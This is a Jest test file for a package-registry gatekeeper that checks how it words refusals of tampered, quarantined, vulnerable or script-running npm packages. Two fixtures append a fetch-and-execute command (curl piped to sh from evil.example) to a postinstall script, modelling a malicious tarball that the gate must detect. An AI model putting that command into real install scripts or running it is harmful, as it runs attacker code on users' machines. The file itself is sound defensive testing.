/**
 * The status text of the worst realistic refusals. pnpm and yarn 4 print the HTTP status text,
 * not the body, so what a developer needs must survive MAX_STATUS_TEXT: the code, the
 * package@version, what happened in brief (which script or field differs, when the version
 * installs), and the whole next step. Each refusal is built as the gate builds it: a decision
 * from `evaluate` (with a tarball inspection from `inspectTarball`), turned into an error by
 * `refusalOf` and written by `httpError`, the one error writer's content.
 */
import { Advisory } from '../../../src/core/advisory';
import { asGatekeeperError, GatekeeperError, httpError, MAX_BODY_MESSAGE, MAX_STATUS_TEXT, statusText } from '../../../src/core/errors';
import { thenSentence } from '../../../src/core/text';
import { inspectTarball } from '../../../src/core/manifest-compare';
import { Audience, compilePolicy, consolePackageUrl, Decision, evaluate, EvaluationInput, nextStep, PolicySnapshot } from '../../../src/core/policy';
import { inspectPublish } from '../../../src/server/registry/publish';
import { refusalOf } from '../../../src/server/registry/gate';
import { buildTarball, integrityOf, shasumOf } from '../../support/tarball';

const NOW = Date.UTC(2026, 11, 1, 8, 0, 0);
const HOUR = 3_600_000;
const DAY = 24 * HOUR;
// A long, real-looking name and prerelease version: the spec is said three times in most refusals.
const NAME = '@acme-platform-infrastructure/telemetry-collector-agent';
const VERSION = '12.4.0-beta.17';
const SPEC = `${NAME}@${VERSION}`;
const PUBLIC_URL = 'https://registry.internal.example.com/';
const AUDIENCES: Audience[] = ['developer', 'admin'];

/** A 2,000-character install script, as minified setup scripts are. */
const LONG_SCRIPT = `node -e "${'require(\'./lib/setup\').run({verbose:false,retries:3});'.repeat(40)}"`.slice(0, 2000);

function snapshot(rules: Record<string, unknown>): PolicySnapshot {
  return { generation: 1, mode: 'open', approvals: [], bans: [], publishRules: [], rules };
}

function decide(rules: Record<string, unknown>, input: Partial<EvaluationInput>, extra: Partial<PolicySnapshot> = {}): Decision {
  return evaluate(compilePolicy({ ...snapshot(rules), ...extra }), {
    name: NAME,
    version: VERSION,
    manifest: { name: NAME, version: VERSION, license: 'MIT' },
    now: NOW,
    ...input,
  });
}

function inspection(declared: Record<string, unknown>, tarball: Record<string, unknown>) {
  return inspectTarball(declared, { manifest: tarball, hasBindingGyp: false }, 'sha512-AAAA', new Date(NOW - HOUR));
}

/** What the gate answers for a refused version (the packument refusal adds how many versions are blocked). */
function answer(decision: Decision, audience: Audience, suffix = '') {
  return httpError(refusalOf(decision, suffix, PUBLIC_URL, audience));
}

/** The code first, the package@version (in what happened, or in the next step, which names it), the whole next step; bounded, printable ASCII. */
function expectKept(text: string, code: string, step: string): void {
  expect(text.length).toBeLessThanOrEqual(MAX_STATUS_TEXT);
  expect(text).toMatch(/^[\x20-\x7e]+$/);
  expect(text.startsWith(`[${code}] `)).toBe(true);
  expect(text).toContain(SPEC);
  expect(text).toContain(step);
}

const ALL_RULES_ENFORCED = {
  malware: { mode: 'enforce' },
  manifest: { mode: 'enforce' },
  advisories: { mode: 'enforce', severity: 'low' },
  releaseAge: { mode: 'enforce', minimumMs: 3 * DAY },
  scripts: { mode: 'enforce' },
};

describe('the status text of a long EMANIFESTMISMATCH refusal', () => {
  const declared = { name: NAME, version: VERSION, license: 'MIT', scripts: { install: 'node-gyp rebuild', postinstall: LONG_SCRIPT } };

  it.each(AUDIENCES)('names the differing postinstall script (a 2,000-character script that differs at its end) and keeps the whole next step (%s)', (audience) => {
    const tarball = { ...declared, scripts: { install: 'node-gyp rebuild', postinstall: `${LONG_SCRIPT} && curl -s https://evil.example/x | sh` } };
    const decision = decide(ALL_RULES_ENFORCED, { manifest: declared, inspection: inspection(declared, tarball) });
    expect(decision.code).toBe('EMANIFESTMISMATCH');
    for (const suffix of ['', ' (all 3 versions are blocked)']) {
      const { statusText, body } = answer(decision, audience, suffix);
      expectKept(statusText, 'EMANIFESTMISMATCH', nextStep(decision, audience));
      expect(statusText).toContain("postinstall script changed in the tarball's package.json");
      // Only postinstall differs: the identical install script is not named as a difference.
      expect(statusText).not.toMatch(/\binstall script (changed|added|removed)/);
      expect(statusText).toContain(audience === 'admin' ? 'gatekeeper policy set manifest warn' : 'an admin who accepts the difference can set the rule to warn');
      // The body keeps the whole message, and shows where the two scripts part.
      expect(body.error.length).toBeLessThanOrEqual(MAX_BODY_MESSAGE + 20);
      expect(body.error).toContain('&& curl -s https://evil');
      expect(body.error.endsWith(`${nextStep(decision, audience)}; or open ${consolePackageUrl(PUBLIC_URL, NAME, VERSION)} to see why and request it${suffix}`)).toBe(true);
    }
  });

  it.each(AUDIENCES)('names an added 2,000-character postinstall script (%s)', (audience) => {
    const plain = { name: NAME, version: VERSION, license: 'MIT' };
    const decision = decide(ALL_RULES_ENFORCED, { manifest: plain, inspection: inspection(plain, { ...plain, scripts: { postinstall: LONG_SCRIPT } }) });
    expect(decision.code).toBe('EMANIFESTMISMATCH');
    const { statusText } = answer(decision, audience);
    expectKept(statusText, 'EMANIFESTMISMATCH', nextStep(decision, audience));
    expect(statusText).toContain("postinstall script added in the tarball's package.json");
  });

  it('names the differing scripts first when name, version and scripts all differ', () => {
    const tarball = { name: `${NAME}-evil`, version: '99.0.0', license: 'MIT', scripts: { preinstall: LONG_SCRIPT, install: 'node-gyp rebuild' } };
    const decision = decide(ALL_RULES_ENFORCED, { manifest: declared, inspection: inspection(declared, tarball) });
    expect(decision.code).toBe('EMANIFESTMISMATCH');
    for (const audience of AUDIENCES) {
      const { statusText } = answer(decision, audience);
      expectKept(statusText, 'EMANIFESTMISMATCH', nextStep(decision, audience));
      // With this name, what happened leaves out the package@version the next step names.
      expect(statusText).toContain('[EMANIFESTMISMATCH] preinstall script added, postinstall script removed; name is ');
    }
    // With a shorter name every field fits.
    const short = { name: 'collector', version: '2.0.0', license: 'MIT', scripts: { postinstall: LONG_SCRIPT } };
    const other = evaluate(compilePolicy(snapshot(ALL_RULES_ENFORCED)), {
      name: 'collector',
      version: '2.0.0',
      manifest: short,
      now: NOW,
      inspection: inspection(short, { ...short, name: 'collector-evil', version: '9.9.9', scripts: { preinstall: LONG_SCRIPT } }),
    });
    const { statusText } = httpError(refusalOf(other, '', PUBLIC_URL, 'admin'));
    expect(statusText.length).toBeLessThanOrEqual(MAX_STATUS_TEXT);
    expect(statusText).toContain("[EMANIFESTMISMATCH] collector@2.0.0: preinstall script added, postinstall script removed; name is 'collector-evil'; version is '9.9.9'");
    expect(statusText).toContain(nextStep(other, 'admin'));
  });
});

describe('the status text of a long EQUARANTINED refusal', () => {
  // Every rule before release-age in warn mode and objecting, release-age and the rules after it enforced.
  const rules = {
    malware: { mode: 'warn' },
    manifest: { mode: 'warn' },
    advisories: { mode: 'warn', severity: 'low' },
    license: { mode: 'warn' },
    releaseAge: { mode: 'enforce', minimumMs: 3 * DAY },
    scripts: { mode: 'enforce' },
    newPublisher: { mode: 'enforce' },
    provenanceDowngrade: { mode: 'enforce' },
    deprecated: { mode: 'enforce' },
  };
  const advisory: Advisory = {
    key: 'ghsa:GHSA-aaaa-bbbb-cccc',
    name: NAME,
    id: 'GHSA-aaaa-bbbb-cccc',
    title: 'Denial of service in the collector',
    url: 'https://github.com/advisories/GHSA-aaaa-bbbb-cccc',
    severity: 'moderate',
    vulnerableVersions: '<13.0.0',
    fixedIn: [],
    source: 'upstream',
  };
  const published = new Date(NOW - HOUR).toISOString();
  const manifest = { name: NAME, version: VERSION, license: 'GPL-3.0-only', deprecated: 'use @acme/collector', scripts: { postinstall: LONG_SCRIPT } };

  function quarantined(): Decision {
    const decision = decide(
      rules,
      {
        manifest,
        publishedAt: published,
        versions: ['12.3.0', VERSION],
        advisories: { advisories: [advisory], status: 'fresh' },
        inspection: inspection(manifest, { ...manifest, name: `${NAME}-other` }),
      },
      { license: { allow: ['MIT'] } },
    );
    expect(decision.code).toBe('EQUARANTINED');
    expect(decision.warnings.length).toBeGreaterThanOrEqual(3);
    return decision;
  }

  it.each(AUDIENCES)('keeps when it installs and the whole next step, with or without the console link and the count (%s)', (audience) => {
    const decision = quarantined();
    const installable = new Date(NOW - HOUR + 3 * DAY).toISOString().replace(/\.\d{3}Z$/, 'Z');
    for (const suffix of ['', ' (all 2 versions are blocked)']) {
      const { statusText } = answer(decision, audience, suffix);
      expectKept(statusText, 'EQUARANTINED', nextStep(decision, audience));
      expect(statusText).toContain(`installable after ${installable}`);
      expect(statusText).toContain(
        audience === 'admin'
          ? `Use an older version, wait, or exempt it (gatekeeper policy exempt release-age ${NAME}); run 'gatekeeper explain ${SPEC}'`
          : `Use an older version, wait, or ask for an exemption: gatekeeper request ${SPEC} --reason '<why you need it>'; run 'gatekeeper explain ${SPEC}'`,
      );
    }
  });

  it.each(AUDIENCES)('keeps when it installs for one of the longest real names, leaving out the package@version its next step names (%s)', (audience) => {
    const name = '@babel/plugin-bugfix-safari-id-destructuring-collision-in-function-expression';
    const decision = evaluate(compilePolicy(snapshot({ releaseAge: { mode: 'enforce', minimumMs: 3 * DAY } })), {
      name,
      version: '7.23.3',
      manifest: { name, version: '7.23.3' },
      publishedAt: published,
      now: NOW,
    });
    const { statusText } = answer(decision, audience, ' (all 2 versions are blocked)');
    expect(statusText.length).toBeLessThanOrEqual(MAX_STATUS_TEXT);
    expect(statusText).toContain(`[EQUARANTINED] this version is installable after 2026-12-04T07:00:00Z. ${nextStep(decision, audience)}`);
  });

  it('loses its middle only when the next step alone nearly fills the text (a name of 214 characters)', () => {
    const name = `@${'s'.repeat(50)}/${'n'.repeat(162)}`;
    const decision = evaluate(compilePolicy(snapshot({ releaseAge: { mode: 'enforce', minimumMs: 3 * DAY } })), { name, version: '1.0.0', manifest: { name, version: '1.0.0' }, publishedAt: published, now: NOW });
    const { statusText } = answer(decision, 'developer');
    expect(statusText).toHaveLength(MAX_STATUS_TEXT);
    // What happened and the start of the next step are kept; the middle of the next step (one of the two specs) goes.
    expect(statusText).toMatch(/^\[EQUARANTINED\] this version is installable after 2026-12-04T07:00:00Z\. Use an older version, wait, or ask for an exemption: gatekeeper request @s+\.\.\.[a-z ]+ @s+\/n+@1\.0\.0'$/);
  });

  it('keeps the console link and the count when there is room for them (a short name)', () => {
    const decision = evaluate(compilePolicy(snapshot({ releaseAge: { mode: 'enforce', minimumMs: 3 * DAY } })), {
      name: 'fresh-fixture',
      version: '1.1.0',
      manifest: { name: 'fresh-fixture', version: '1.1.0' },
      publishedAt: published,
      now: NOW,
    });
    const { statusText } = httpError(refusalOf(decision, ' (all 2 versions are blocked)', PUBLIC_URL, 'developer'));
    expect(statusText.length).toBeLessThanOrEqual(MAX_STATUS_TEXT);
    expect(statusText).toContain("Use an older version, wait, or ask for an exemption: gatekeeper request fresh-fixture@1.1.0 --reason '<why you need it>'; run 'gatekeeper explain fresh-fixture@1.1.0'");
    expect(statusText).toMatch(/installable after \d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ/);
    expect(statusText).toContain('(all 2 versions are blocked)');
  });
});

describe('the status text of an EADVISORY refusal with a long title', () => {
  const title = `Prototype pollution in the collector's configuration loader allows ${'remote code execution through crafted payloads; '.repeat(10)}`.slice(0, 500);
  const advisories: Advisory[] = ['GHSA-1111-2222-3333', 'GHSA-4444-5555-6666', 'GHSA-7777-8888-9999'].map((id, i) => ({
    key: `ghsa:${id}`,
    name: NAME,
    id,
    title: i === 0 ? title : `another problem ${i}`,
    url: `https://github.com/advisories/${id}`,
    // The first is the worst, so the refusal names it and its long title.
    severity: i === 0 ? 'critical' : 'high',
    vulnerableVersions: '<12.4.1',
    fixedIn: ['12.4.1'],
    source: 'upstream',
  }));

  it.each(AUDIENCES)('keeps the advisory, the fixed version and the whole next step (%s)', (audience) => {
    const decision = decide(ALL_RULES_ENFORCED, { versions: ['12.3.0', VERSION, '12.4.1'], advisories: { advisories, status: 'fresh' } });
    expect(decision.code).toBe('EADVISORY');
    const { statusText } = answer(decision, audience, ' (all 2 versions are blocked)');
    expectKept(statusText, 'EADVISORY', nextStep(decision, audience));
    expect(statusText).toContain('GHSA-1111-2222-3333 (critical)');
    expect(statusText).toContain('fixed in 12.4.1');
    expect(statusText).toContain('Prototype pollution');
  });
});

describe('the status text of an EINSTALLSCRIPTS refusal of a 2,000-character script', () => {
  it.each(AUDIENCES)("names the script and keeps the whole next step (%s)", (audience) => {
    const decision = decide({ scripts: { mode: 'enforce' } }, { manifest: { name: NAME, version: VERSION, scripts: { preinstall: LONG_SCRIPT, postinstall: LONG_SCRIPT } } });
    expect(decision.code).toBe('EINSTALLSCRIPTS');
    const { statusText } = answer(decision, audience);
    expectKept(statusText, 'EINSTALLSCRIPTS', nextStep(decision, audience));
    expect(statusText).toContain('preinstall');
    expect(statusText).toContain('postinstall');
  });
});

describe('the status text of a publish refused for a tarball that disagrees with its manifest', () => {
  it('names the differing fields and keeps the whole next step', async () => {
    const manifest = { name: NAME, version: VERSION, license: 'MIT', scripts: { postinstall: LONG_SCRIPT }, dependencies: { left: '^1.0.0' } };
    const inTarball = { ...manifest, scripts: { postinstall: `${LONG_SCRIPT} && curl -s https://evil.example/x | sh` }, dependencies: { left: '^1.0.0', 'evil-dep': LONG_SCRIPT.slice(0, 300) } };
    const data = buildTarball({ 'package/package.json': JSON.stringify(inTarball) });
    const err = await inspectPublish({
      name: NAME,
      version: VERSION,
      manifest,
      tarball: { filename: `telemetry-collector-agent-${VERSION}.tgz`, data, integrity: integrityOf(data), shasum: shasumOf(data) },
      distTags: { latest: VERSION },
    }).then(
      () => undefined,
      (e: unknown) => e,
    );
    const { statusText, body } = httpError(err as never);
    expect(body.code).toBe('EMANIFESTMISMATCH');
    expect(statusText.length).toBeLessThanOrEqual(MAX_STATUS_TEXT);
    expect(statusText).toMatch(/^[\x20-\x7e]+$/);
    expect(statusText.startsWith(`[EMANIFESTMISMATCH] the tarball of ${SPEC} disagrees with the manifest published with it`)).toBe(true);
    expect(statusText).toContain('postinstall');
    expect(statusText).toContain('dependencies');
    expect(statusText.endsWith('Publish with npm from one package.json, which builds both from it')).toBe(true);
  });
});

describe('statusText with a short form', () => {
  const next = "Run 'gatekeeper explain p@1.0.0'";
  const reason = `p@1.0.0 is refused: ${'R'.repeat(300)}`;
  const brief = 'p@1.0.0 is refused in brief';

  it('is the whole text when it fits, whatever the short form', () => {
    expect(statusText(`[EBANNED] p@1.0.0 is banned. ${next}`, { what: ['x'], next: 'y' })).toBe(`[EBANNED] p@1.0.0 is banned. ${next}`);
  });

  it('takes the first what that fits with the whole next step and every extra (the console link is a next step too)', () => {
    const link = `; or open ${'u'.repeat(100)}`;
    const whole = `[EBANNED] ${reason}. ${next}${link}`;
    expect(statusText(whole, { what: [`[EBANNED] ${reason}`, `[EBANNED] ${brief}`], next, more: [link, ' (all 2 versions are blocked)'] })).toBe(
      `[EBANNED] ${brief}. ${next}${link} (all 2 versions are blocked)`,
    );
  });

  it('else the first what that fits with the whole next step, with each extra that still fits', () => {
    const link = `; or open ${'u'.repeat(360)}`;
    const longer = `p@1.0.0 is refused: ${'R'.repeat(400)}`;
    expect(statusText(`[EBANNED] ${reason}. ${next}${link}`, { what: [`[EBANNED] ${reason}`, `[EBANNED] ${brief}`], next, more: [link, ' (all 2 versions are blocked)'] })).toBe(
      `[EBANNED] ${reason}. ${next} (all 2 versions are blocked)`,
    );
    expect(statusText(`[EBANNED] ${longer}. ${next}`, { what: [`[EBANNED] ${longer}`, `[EBANNED] ${brief}`], next, more: [link, '; or open the page'] })).toBe(
      `[EBANNED] ${brief}. ${next}; or open the page`,
    );
  });

  it("cuts the last what at its end (not inside a word, not on punctuation) when none fits, and keeps the whole next step", () => {
    const words = `[EBANNED] p@1.0.0 is refused: ${'word '.repeat(100)}`;
    const text = statusText(`${words}. ${next}`, { what: [words], next });
    expect(text.length).toBeLessThanOrEqual(MAX_STATUS_TEXT);
    expect(text).toMatch(/^\[EBANNED\] p@1\.0\.0 is refused: (word )+word\.\.\. Run 'gatekeeper explain p@1\.0\.0'$/);
  });

  it('loses its middle as before when the next step alone leaves no room', () => {
    const long = `Run ${'n'.repeat(500)} now`;
    const text = statusText(`[EBANNED] ${brief}. ${long}`, { what: [`[EBANNED] ${brief}`], next: long });
    expect(text).toHaveLength(MAX_STATUS_TEXT);
    expect(text).toMatch(/^\[EBANNED\] p@1\.0\.0 is refused in brief\. Run n+\.\.\.n+ now$/);
  });

  it('is printable ASCII, one line, in every part', () => {
    const text = statusText(`[EBANNED] ${'Z'.repeat(500)}`, { what: ['[EBANNED] p@1.0.0 “quoted”\r\nSet-Cookie: a=b ünï'], next: 'Do\tit\u0000 now', more: ['\u001b[31m red'] });
    expect(text).toBe('[EBANNED] p@1.0.0 "quoted" Set-Cookie: a=b uni. Do it now [31m red');
  });

  it('goes through httpError with the code before each what, and survives a copy from another module', () => {
    const longer = `p@1.0.0 is refused: ${'R'.repeat(400)}`;
    const err = new GatekeeperError('EQUARANTINED', `${longer}. ${next}`, undefined, { short: { what: [longer, brief], next } });
    expect(httpError(err).statusText).toBe(`[EQUARANTINED] ${brief}. ${next}`);
    expect(httpError(err).body.error).toBe(`[EQUARANTINED] ${longer}. ${next}`);
    const copied = asGatekeeperError({ name: 'GatekeeperError', code: err.code, message: err.message, short: err.short });
    expect(copied && httpError(copied).statusText).toBe(`[EQUARANTINED] ${brief}. ${next}`);
    // A malformed short form from elsewhere is ignored, not trusted.
    const odd = asGatekeeperError({ name: 'GatekeeperError', code: err.code, message: err.message, short: { what: 'not a list', next } });
    expect(odd?.short).toBeUndefined();
  });
});

describe('a reason cut with an ellipsis, then the next step', () => {
  it('reads "le... Run", not "le.... Run", in the message and in both forms of the status text', () => {
    expect(statusText(thenSentence('foo@1.0.0: its title, cut le…', "Run 'gatekeeper explain foo@1.0.0'"))).toBe("foo@1.0.0: its title, cut le... Run 'gatekeeper explain foo@1.0.0'");
    const long = `foo@1.0.0: ${'a very long reason '.repeat(40)}`;
    expect(statusText(long, { what: ['foo@1.0.0: a shorter reason, cut le…'], next: 'Use another version' })).toBe('foo@1.0.0: a shorter reason, cut le... Use another version');
  });
});
